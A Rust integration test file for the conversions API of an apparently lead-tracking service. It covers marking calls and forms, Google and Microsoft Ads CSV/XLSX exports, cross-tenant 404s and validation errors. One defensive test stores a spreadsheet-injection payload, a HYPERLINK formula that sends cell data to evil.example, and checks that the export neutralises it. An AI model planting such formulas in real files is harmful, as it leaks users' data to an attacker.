//! Offline conversions over the API: an API key marks calls and forms, then downloads the
//! Google Ads and Microsoft Advertising files (CSV and XLSX) of its site; another business's
//! key gets 404 for every record and site; bad requests are JSON errors.

use crate::helpers::{Engine, TestApp};
use crate::leads::{Key, call, key_for, post, send, spawn, submit, visit};
use calamine::{Data, Reader, Xlsx};
use leadline_core::BusinessId;
use leadline_core::channel::ClickIds;
use leadline_core::click_id::{ClickId, ClickKind};
use leadline_core::form::FormIdentity;
use leadline_core::names::Name;
use leadline_core::net::DomainName;
use leadline_core::site::{Currency, SiteKey, SiteSettings, Timezone};
use leadline_core::store::SiteStore;
use leadline_core::tenant::{NewSite, Site};
use reqwest::Method;
use reqwest::header::HeaderMap;
use serde_json::{Value, json};

/// `GET path` with `key`: the status, the headers and the body's bytes.
async fn download(app: &TestApp, path: &str, key: &Key) -> (u16, HeaderMap, Vec<u8>) {
    let response = app
        .client
        .get(format!("{}{path}", app.base_url))
        .bearer_auth(&key.key)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    (status, headers, response.bytes().await.unwrap().to_vec())
}

/// A CSV export's lines below the parameters line, as cells.
fn csv_rows(bytes: &[u8]) -> (String, Vec<Vec<String>>) {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let (parameters, rest) = text.split_once('\n').unwrap();
    let rows = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(rest.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (parameters.to_owned(), rows)
}

/// A spreadsheet export's cells as text (blank cells empty, numbers as the CSV writes them
/// with two decimals).
fn xlsx_rows(bytes: Vec<u8>) -> Vec<Vec<String>> {
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let range = book.worksheet_range("Conversions").unwrap();
    range
        .rows()
        .map(|row| {
            row.iter()
                .map(|cell| match cell {
                    Data::Empty => String::new(),
                    Data::String(text) => text.clone(),
                    Data::Float(number) => format!("{number:.2}"),
                    other => panic!("unexpected cell {other:?}"),
                })
                .collect()
        })
        .collect()
}

/// The site's local time of `at`, as the exports write it.
fn local(at: chrono::DateTime<chrono::Utc>) -> String {
    let zone = Timezone::parse("America/New_York").unwrap().tz();
    at.with_timezone(&zone).format("%Y-%m-%d %H:%M:%S").to_string()
}

const GOOGLE_HEADER: [&str; 7] = [
    "Google Click ID",
    "GBRAID",
    "WBRAID",
    "Conversion Name",
    "Conversion Time",
    "Conversion Value",
    "Conversion Currency",
];

async fn an_api_key_marks_calls_and_forms_and_downloads_the_ad_files(engine: Engine) {
    let (app, seeded, key) = spawn(engine).await;
    let business = seeded.site.business_id;
    let marked_visit = visit(&app, seeded.site.id, "ga:1.1").await;
    let marked = call(&app, &seeded, "CA1", Some(marked_visit), 90).await;
    let unmarked_visit = visit(&app, seeded.site.id, "ga:2.2").await;
    let unmarked = call(&app, &seeded, "CA2", Some(unmarked_visit), 30).await;
    let identity = FormIdentity {
        click_ids: ClickIds {
            gbraid: Some(ClickId::parse(ClickKind::Gbraid, "gbraid-form").unwrap()),
            ..ClickIds::default()
        },
        ..FormIdentity::default()
    };
    let form = submit(&app, business, seeded.site.id, "Ann Lee", "ann@example.com", identity).await;

    let (status, mark) = post(
        &app,
        &format!("/v1/calls/{}/conversion", marked.record_ref),
        &key,
        json!({"value": "1,200.50"}),
    )
    .await;
    assert_eq!(status, 200, "{mark}");
    assert_eq!(mark["record"], "call");
    assert_eq!(mark["ref"], marked.record_ref);
    assert_eq!(mark["name"], "Phone Call");
    assert_eq!(
        (mark["value"].as_str(), mark["value_minor"].as_i64()),
        (Some("1200.50"), Some(120_050))
    );
    assert_eq!(mark["currency"], "USD", "the site's currency");
    assert_eq!(mark["marked_by"], format!("api-key:{}", key.prefix));
    let (status, mark) = post(
        &app,
        &format!("/v1/submissions/{}/conversion", form.message_id.as_str()),
        &key,
        json!({"name": "Quote, signed"}),
    )
    .await;
    assert_eq!(status, 200, "{mark}");
    assert_eq!(
        (mark["record"].as_str(), mark["value"].clone()),
        (Some("submission"), Value::Null)
    );

    // Google Ads, CSV: only the marked call and form, one click id each.
    let (status, headers, body) = download(&app, "/v1/exports/google-ads.csv", &key).await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert_eq!(
        disposition,
        format!("attachment; filename=\"google-ads-{}.csv\"", seeded.site.key)
    );
    assert_eq!(headers["x-leadline-skipped"], "0");
    assert!(
        !headers.contains_key("x-leadline-skipped-braid-only"),
        "said only for five columns"
    );
    let (parameters, rows) = csv_rows(&body);
    assert_eq!(parameters, "Parameters:TimeZone=America/New_York");
    assert_eq!(rows[0], GOOGLE_HEADER);
    let call_time = local(marked.ended_at.unwrap());
    let form_time = local(form.created_at);
    let expected = vec![
        vec!["abc", "", "", "Phone Call", &call_time, "1200.50", "USD"],
        vec!["", "gbraid-form", "", "Quote, signed", &form_time, "", ""],
    ];
    let mut found = rows[1..].to_vec();
    found.sort_by(|a, b| b[0].cmp(&a[0]));
    assert_eq!(found, expected);
    assert!(
        String::from_utf8(body.clone()).unwrap().contains(",\"Quote, signed\","),
        "the comma is quoted"
    );

    // Google's five-column template: the gbraid-only form cannot be written, and is said.
    let (status, headers, body) = download(&app, "/v1/exports/google-ads.csv?five_columns=true", &key).await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    assert_eq!(
        (
            &headers["x-leadline-skipped"],
            &headers["x-leadline-skipped-braid-only"]
        ),
        (&"1".parse().unwrap(), &"1".parse().unwrap())
    );
    let (_, five) = csv_rows(&body);
    assert_eq!(
        five,
        [
            vec![
                "Google Click ID",
                "Conversion Name",
                "Conversion Time",
                "Conversion Value",
                "Conversion Currency"
            ],
            vec!["abc", "Phone Call", &call_time, "1200.50", "USD"],
        ]
    );
    let (status, _, body) = download(&app, "/v1/exports/microsoft-ads.csv?five_columns=1", &key).await;
    let error: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(status, 400);
    assert!(
        error["error"]
            .as_str()
            .unwrap()
            .starts_with("five_columns is for the google-ads export only")
    );

    // The same rows in the spreadsheet, under the parameters line.
    let (status, headers, book) = download(&app, "/v1/exports/google-ads.xlsx", &key).await;
    assert_eq!(status, 200);
    assert!(headers["content-type"].to_str().unwrap().contains("spreadsheetml"));
    let cells = xlsx_rows(book);
    assert_eq!(cells[0][0], parameters);
    assert_eq!(cells[1], GOOGLE_HEADER);
    assert_eq!(cells[2..], rows[1..]);

    // Unmarked calls with a click id, when asked for.
    let (_, _, body) = download(&app, "/v1/exports/google-ads.csv?include_unmarked=true", &key).await;
    let (_, rows) = csv_rows(&body);
    assert_eq!(rows.len(), 4, "{rows:?}");
    let unmarked_time = local(unmarked.ended_at.unwrap());
    assert!(
        rows.contains(
            &["abc", "", "", "Phone Call", unmarked_time.as_str(), "", ""]
                .map(String::from)
                .to_vec()
        )
    );

    // Call conversions: the marked call by its caller and start.
    let (status, _, body) = download(&app, "/v1/exports/google-ads-calls.csv", &key).await;
    assert_eq!(status, 200);
    let (_, rows) = csv_rows(&body);
    assert_eq!(rows[0][0], "Caller's Phone Number");
    assert_eq!(
        rows[1..],
        [vec![
            "+12025550169".to_owned(),
            local(marked.started_at),
            "Phone Call".into(),
            call_time.clone(),
            "1200.50".into(),
            "USD".into()
        ]]
    );

    // Microsoft: nothing has an msclkid; both marks are counted as left out.
    let (status, headers, body) = download(&app, "/v1/exports/microsoft-ads.csv", &key).await;
    assert_eq!(status, 200);
    assert_eq!(headers["x-leadline-skipped"], "2");
    let (_, rows) = csv_rows(&body);
    assert_eq!(rows.len(), 1, "the header alone");

    // A window that ends before the conversions.
    let (_, _, body) = download(&app, "/v1/exports/google-ads.csv?to=2020-01-01", &key).await;
    assert_eq!(csv_rows(&body).1.len(), 1);

    // Unmarking takes the call out; unmarking again is no error.
    let path = format!("/v1/calls/{}/conversion", marked.record_ref);
    for _ in 0..2 {
        let response = app
            .client
            .delete(format!("{}{path}", app.base_url))
            .bearer_auth(&key.key)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 204);
    }
    let (_, _, body) = download(&app, "/v1/exports/google-ads.csv", &key).await;
    let (_, rows) = csv_rows(&body);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1][1], "gbraid-form");
    app.finish().await;
}

/// A second business with a site in another zone, and its key.
async fn rival(app: &TestApp) -> (Site, Key) {
    let business = app.add_business("rival", "Rival").await;
    let site = add_site(app, business.id, "rival.example", "UTC").await;
    let key = key_for(app, business.id).await;
    (site, key)
}

async fn add_site(app: &TestApp, business: BusinessId, domain: &str, zone: &str) -> Site {
    app.store
        .create_site(&NewSite {
            business_id: business,
            name: Name::parse_as("n", "Another site").unwrap(),
            key: SiteKey::generate(),
            domains: vec![DomainName::parse(domain).unwrap()],
            timezone: Timezone::parse(zone).unwrap(),
            currency: Currency::parse("EUR").unwrap(),
            settings: SiteSettings::default(),
        })
        .await
        .unwrap()
}

async fn another_business_key_gets_404_for_every_record_and_site(engine: Engine) {
    let (app, seeded, own) = spawn(engine).await;
    let v = visit(&app, seeded.site.id, "ga:1.1").await;
    let own_call = call(&app, &seeded, "CA1", Some(v), 60).await;
    let form = submit(
        &app,
        seeded.site.business_id,
        seeded.site.id,
        "Ann Lee",
        "ann@example.com",
        FormIdentity::default(),
    )
    .await;
    let (rival_site, rival_key) = rival(&app).await;
    let call_path = format!("/v1/calls/{}/conversion", own_call.record_ref);
    let form_path = format!("/v1/submissions/{}/conversion", form.message_id.as_str());
    for path in [&call_path, &form_path] {
        for method in [Method::POST, Method::DELETE] {
            let (status, body) = send(&app, method.clone(), path, Some(&rival_key.key), Some(json!({}))).await;
            assert_eq!(
                (status, body["error"].as_str()),
                (404, Some("not found")),
                "{method} {path}"
            );
        }
    }
    let own_site = format!("?site={}", seeded.site.key);
    for path in [
        "google-ads.csv",
        "google-ads.xlsx",
        "microsoft-ads.csv",
        "google-ads-calls.csv",
    ] {
        let (status, _, body) = download(&app, &format!("/v1/exports/{path}{own_site}"), &rival_key).await;
        assert_eq!(status, 404, "{path}: {}", String::from_utf8_lossy(&body));
    }
    // The rival's own export holds nothing of the first business's, in its own zone.
    let (status, _, body) = download(&app, "/v1/exports/google-ads.csv?include_unmarked=1", &rival_key).await;
    assert_eq!(status, 200);
    let (parameters, rows) = csv_rows(&body);
    assert_eq!(parameters, "Parameters:TimeZone=UTC");
    assert_eq!(rows.len(), 1);
    let (status, _, _) = download(
        &app,
        &format!("/v1/exports/google-ads.csv?site={}", rival_site.key),
        &own,
    )
    .await;
    assert_eq!(status, 404, "nor the other way round");
    // The first business's mark is untouched: its call is still unmarked and markable.
    let (status, _) = post(&app, &call_path, &own, json!({})).await;
    assert_eq!(status, 200);
    app.finish().await;
}

async fn bad_requests_are_json_errors(engine: Engine) {
    let (app, seeded, key) = spawn(engine).await;
    let own_call = call(&app, &seeded, "CA1", None, 60).await;
    let path = format!("/v1/calls/{}/conversion", own_call.record_ref);
    for (body, says) in [
        (json!({"value": "12,00"}), "not an amount"),
        (json!({"value": "-5"}), "negative"),
        (json!({"currency": "USD"}), "without a value"),
        (json!({"value": 5, "currency": "XYZ1"}), "ISO 4217"),
        (json!({"name": ""}), "conversion name"),
        (json!({"nmae": "Phone Call"}), "unknown field"),
    ] {
        let (status, answer) = post(&app, &path, &key, body.clone()).await;
        assert_eq!(status, 400, "{body}: {answer}");
        assert!(answer["error"].as_str().unwrap().contains(says), "{body}: {answer}");
    }
    let (status, _) = post(&app, "/v1/calls/not-a-ref/conversion", &key, json!({})).await;
    assert_eq!(status, 404);
    let (status, _) = post(&app, "/v1/submissions/m_nope/conversion", &key, json!({})).await;
    assert_eq!(status, 404);
    let (status, answer) = send(&app, Method::POST, &path, None, Some(json!({}))).await;
    assert_eq!(status, 401, "{answer}");
    let huge = json!({"name": "x".repeat(20_000)});
    let (status, _) = post(&app, &path, &key, huge).await;
    assert_eq!(status, 413);

    for (query, says) in [
        ("?sight=abc", "unknown parameter"),
        ("?from=yesterday", "not a date"),
        ("?from=2025-03-02&to=2025-03-01", "not before"),
        ("?include_unmarked=maybe", "true or false"),
    ] {
        let (status, _, body) = download(&app, &format!("/v1/exports/google-ads.csv{query}"), &key).await;
        let answer: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(status, 400, "{query}: {answer}");
        assert!(answer["error"].as_str().unwrap().contains(says), "{query}: {answer}");
    }
    // With two sites, an export must name one.
    add_site(&app, seeded.site.business_id, "shop.acme.example", "Europe/Berlin").await;
    let (status, _, body) = download(&app, "/v1/exports/google-ads.csv", &key).await;
    let answer: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(status, 400);
    assert!(answer["error"].as_str().unwrap().contains("several sites"), "{answer}");
    let (status, _, _) = download(
        &app,
        &format!("/v1/exports/google-ads.csv?site={}", seeded.site.key),
        &key,
    )
    .await;
    assert_eq!(status, 200);
    app.finish().await;
}

async fn a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(engine: Engine) {
    let (app, seeded, key) = spawn(engine).await;
    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"Update")"#;
    let names = [formula, "-20% spring promo", "@SUM(1+1)"];
    for (i, name) in names.iter().enumerate() {
        let visitor = format!("ga:{i}.{i}");
        let from_ad = visit(&app, seeded.site.id, &visitor).await;
        let called = call(&app, &seeded, &format!("CA{i}"), Some(from_ad), 60).await;
        let path = format!("/v1/calls/{}/conversion", called.record_ref);
        let (status, mark) = post(&app, &path, &key, json!({ "name": name, "value": "10" })).await;
        assert_eq!((status, mark["name"].as_str()), (200, Some(*name)), "stored as typed");
    }

    let (status, _, body) = download(&app, "/v1/exports/google-ads.csv", &key).await;
    assert_eq!(status, 200);
    let (_, rows) = csv_rows(&body);
    let mut exported: Vec<&str> = rows[1..].iter().map(|row| row[3].as_str()).collect();
    exported.sort_unstable();
    let quoted = names.map(|name| format!("'{name}"));
    let mut expected: Vec<&str> = quoted.iter().map(String::as_str).collect();
    expected.sort_unstable();
    assert_eq!(exported, expected, "each name is text, not a formula");
    assert!(rows[1..].iter().all(|row| row[5] == "10.00"), "amounts stay numbers");
    let (_, _, body) = download(&app, "/v1/exports/google-ads-calls.csv", &key).await;
    let (_, rows) = csv_rows(&body);
    assert!(
        rows[1..].iter().all(|row| row[0] == "+12025550169"),
        "the caller's E.164 number keeps its +: {rows:?}"
    );

    // A spreadsheet's text cell is never evaluated: the name is kept exactly there.
    let (_, _, book) = download(&app, "/v1/exports/google-ads.xlsx", &key).await;
    let mut cells: Vec<String> = xlsx_rows(book)[2..].iter().map(|row| row[3].clone()).collect();
    cells.sort_unstable();
    let mut typed = names.map(String::from).to_vec();
    typed.sort_unstable();
    assert_eq!(cells, typed);
    app.finish().await;
}

crate::on_both_engines!(
    a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text,
    an_api_key_marks_calls_and_forms_and_downloads_the_ad_files,
    another_business_key_gets_404_for_every_record_and_site,
    bad_requests_are_json_errors,
);
